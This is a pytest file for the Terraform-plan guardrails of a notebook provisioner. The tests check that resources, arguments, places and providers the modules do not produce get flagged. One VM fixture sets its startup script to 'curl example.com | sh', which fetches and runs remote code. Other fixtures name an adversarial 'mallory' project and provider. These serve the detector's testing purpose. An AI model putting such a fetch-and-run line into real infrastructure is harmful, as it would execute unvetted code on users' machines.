"""A plan makes what the modules make: a type that they do not make is named, whatever else is known of it."""

import hashlib
from datetime import date
from pathlib import Path

import pytest
from plan_documents import LOOKED_UP, change, document, notebook
from plan_mistakes import RIGHT

from notebook_provisioner.catalog import resources
from notebook_provisioner.core import fleet, guardrails
from notebook_provisioner.core.terraform_plan import read

QUICKSTART = Path(__file__).parents[2] / "examples" / "quickstart" / "fleet.yaml"


def our_fleet():
    return fleet.parse(QUICKSTART.read_text(encoding="utf-8"), file="fleet.yaml", today=date(2026, 11, 1))


def codes(*entries):
    return [finding.code for finding in guardrails.check(read(document(*entries, **LOOKED_UP)), our_fleet())]


OTHERS = {
    "a VM whose disk is a notebook's": (
        "google_compute_instance",
        {
            "metadata_startup_script": "curl example.com | sh",
            "network_interface": [{"network": "default"}],
            "attached_disk": [{"source": "ana-data-workspace"}],
        },
    ),
    "a rule that goes before every network's": (
        "google_compute_firewall_policy_rule",
        {
            "direction": "INGRESS",
            "action": "allow",
            "match": [{"src_ip_ranges": ["10.0.0.0/8"], "layer4_configs": [{"ip_protocol": "all"}]}],
        },
    ),
    "a name that answers as it should": (
        "google_dns_response_policy_rule",
        {"dns_name": "docs.example.com.", "local_data": []},
    ),
    "a binding of the modules' own roles": (
        "google_storage_bucket_iam_binding",
        {"bucket": "b", "role": "roles/storage.objectViewer", "members": []},
    ),
}


@pytest.mark.parametrize("one", OTHERS)
def test_a_type_that_some_rule_knows(one):
    kind, after = OTHERS[one]
    assert "unlisted-resource" in codes(change(kind, ["create"], after=after))
    assert "unlisted-resource" in codes(change(kind, ["update"], before=after, after=after))
    assert codes(change(kind, ["delete"], before=after)) == []


def test_a_type_that_is_named_for_something_else_too():
    key = change("google_service_account_key", ["create"], after={"service_account_id": "a"})
    assert codes(key) == ["service-account-key", "unlisted-resource"]


SCRIPT = {
    "bucket": "nbp-quickstart-quickstart-scripts",
    "name": f"post-startup/ana/{hashlib.sha256(b'true').hexdigest()}.sh",
    "content": "true",
}
MADE = {**RIGHT, "google_storage_bucket_object": SCRIPT}


def test_what_the_modules_make_is_not_named():
    assert MADE.keys() <= resources.TYPES
    for kind in resources.TYPES:
        found = codes(change(kind, ["create"], after=MADE.get(kind, {})))
        assert {"unlisted-argument", "unlisted-resource"}.isdisjoint(found)


@pytest.mark.parametrize("bucket", ["somebody-elses", "nbp-quickstart-quickstart-ana-research-sync", None])
def test_an_object_that_no_module_makes(bucket):
    entry = change(
        "google_storage_bucket_object",
        ["create"],
        after={**SCRIPT, "bucket": bucket, "name": ".bashrc"},
        unknown={} if bucket else {"bucket": True},
    )
    assert "unlisted-resource" in codes(entry)


BUCKET = RIGHT["google_storage_bucket"]
ZONE = {"dns_name": "googleapis.com.", "visibility": "private"}
OTHER_ARGUMENTS = {
    "one that no module writes": ("google_storage_bucket", {**BUCKET, "requester_pays": True}),
    "a block that no module writes": ("google_storage_bucket", {**BUCKET, "cors": [{"origin": ["*"]}]}),
    "another value than the modules'": ("google_dns_managed_zone", {**ZONE, "visibility": "public"}),
    "another value than the default": ("google_service_account", {"account_id": "nb-ana", "disabled": True}),
    "one deep inside": (
        "google_compute_resource_policy",
        {
            "snapshot_schedule_policy": [
                {"retention_policy": [{"on_source_disk_delete": "APPLY_RETENTION_POLICY"}]}
            ]
        },
    ),
}


@pytest.mark.parametrize("one", OTHER_ARGUMENTS)
@pytest.mark.parametrize("action", ["create", "update"])
def test_an_argument_that_no_module_gives(one, action):
    kind, after = OTHER_ARGUMENTS[one]
    assert codes(change(kind, [action], before=after, after=after)) == ["unlisted-argument"]


def test_an_argument_that_nobody_can_see():
    for kind, after, part in (
        ("google_storage_bucket", BUCKET, "requester_pays"),
        ("google_storage_bucket", BUCKET, "cors"),
        ("google_dns_managed_zone", {"dns_name": "googleapis.com."}, "visibility"),
    ):
        assert codes(change(kind, ["create"], after=after, unknown={part: True})) == ["unlisted-argument"]


def test_what_the_api_fills_in_and_switches_nothing_on():
    filled = {"hierarchical_namespace": [{"enabled": False}], "requester_pays": False, "cors": []}
    assert codes(change("google_storage_bucket", ["update"], before=BUCKET, after={**BUCKET, **filled})) == []


SUBNET = RIGHT["google_compute_subnetwork"]
SECOND = [{"range_name": "second", "ip_cidr_range": "10.99.0.0/16"}]


def test_what_the_api_fills_in_where_nobody_writes_it():
    kind, second = "google_compute_subnetwork", {**SUBNET, "secondary_ip_range": SECOND}
    argument = ["unlisted-argument"]
    assert codes(change(kind, ["create"], after=SUBNET, unknown={"secondary_ip_range": True})) == []
    assert codes(change(kind, ["create"], after=second)) == argument
    assert codes(change(kind, ["update"], before=SUBNET, after=second)) == argument
    assert codes(change(kind, ["update"], before=second, after=second)) == []
    assert codes(change(kind, ["update"], before=second, after=SUBNET)) == []


def test_a_name_that_google_writes_with_its_place():
    route = {**RIGHT["google_compute_route"]}
    gateway = "https://www.googleapis.com/compute/v1/projects/p/global/gateways/default-internet-gateway"
    assert (
        codes(
            change(
                "google_compute_route", ["update"], before={}, after={**route, "next_hop_gateway": gateway}
            )
        )
        == []
    )


def test_an_argument_beside_what_is_refused_already_is_not_named_as_well():
    open_to_all = {**BUCKET, "public_access_prevention": "inherited", "requester_pays": True}
    assert codes(change("google_storage_bucket", ["create"], after=open_to_all)) == ["public-bucket"]
    without_versions = {**BUCKET, "versioning": [], "requester_pays": True}  # that is only said
    found = codes(change("google_storage_bucket", ["create"], after=without_versions))
    assert found == ["bucket-versioning", "unlisted-argument"]


PLACE = ["fleet-place"]


@pytest.mark.parametrize(
    ("changed", "expected"),
    [
        ({"project": "nbp-quickstart"}, []),
        ({"project": "projects/nbp-quickstart"}, []),
        (
            {"region": "https://www.googleapis.com/compute/v1/projects/nbp-quickstart/regions/europe-west1"},
            [],
        ),
        ({"project": "mallory"}, PLACE),
        ({"region": "us-central1"}, PLACE),
        ({"location": "us"}, PLACE),
        ({"location": "EUROPE-WEST1"}, []),
    ],
)
def test_what_a_plan_makes_is_in_the_fleets_place(changed, expected):
    ring = {"name": "notebooks", "project": "nbp-quickstart", "location": "europe-west1", **changed}
    assert codes(change("google_kms_key_ring", ["create"], after=ring)) == expected


@pytest.mark.parametrize("part", ["project", "location"])
def test_a_place_that_nobody_can_see(part):
    assert codes(change("google_kms_key_ring", ["create"], after={}, unknown={part: True})) == PLACE


def test_a_notebook_is_in_its_own_zone():
    account = {"email": "nb-ana-research@nbp-quickstart.iam.gserviceaccount.com"}
    ours = {**notebook(service_accounts=[account]), "name": "ana-research"}
    for zone, expected in (("europe-west1-b", []), ("europe-west1-c", PLACE)):
        after = {**ours, "location": zone}
        assert codes(change("google_workbench_instance", ["create"], after=after)) == expected


GOOGLE = {"name": "google", "full_name": "registry.terraform.io/hashicorp/google"}


@pytest.mark.parametrize(
    ("key", "row"),
    [
        (
            "google.other",
            {**GOOGLE, "alias": "other", "expressions": {"project": {"constant_value": "mallory"}}},
        ),
        ("module.network:google", {**GOOGLE, "module_address": "module.network"}),
        ("google", {**GOOGLE, "expressions": {"impersonate_service_account": {"constant_value": "a@b.c"}}}),
        ("google", {**GOOGLE, "expressions": {"storage_custom_endpoint": {"constant_value": "https://x"}}}),
        ("google", {**GOOGLE, "full_name": "registry.terraform.io/mallory/google"}),
        ("http", {"name": "http", "full_name": "registry.terraform.io/hashicorp/http"}),
    ],
)
def test_another_provider_or_in_another_name(key, row):
    defaults = {
        name: {"references": ["module.fleet_file"]} for name in ("project", "region", "default_labels")
    }
    ours = {**GOOGLE, "expressions": defaults}

    def found(configured):
        plan = {**document(), "configuration": {"provider_config": configured}}
        return [(one.code, one.subject) for one in guardrails.check(read(plan), our_fleet())]

    assert found({"google": ours}) == []
    assert found({"google": ours, key: row}) == [("unlisted-resource", f"provider.{key}")]


@pytest.mark.parametrize(
    ("key", "one"),
    [
        ("action_invocations", {"address": "action.google_x.debug", "type": "google_x"}),
        ("deferred_action_invocations", {"reason": "unknown"}),
    ],
)
def test_an_action_changes_what_no_resource_shows(key, one):
    found = guardrails.check(read({**document(), key: [one]}), our_fleet())
    assert [finding.code for finding in found] == ["unlisted-resource"]
    assert guardrails.check(read({**document(), key: []}), our_fleet()) == ()
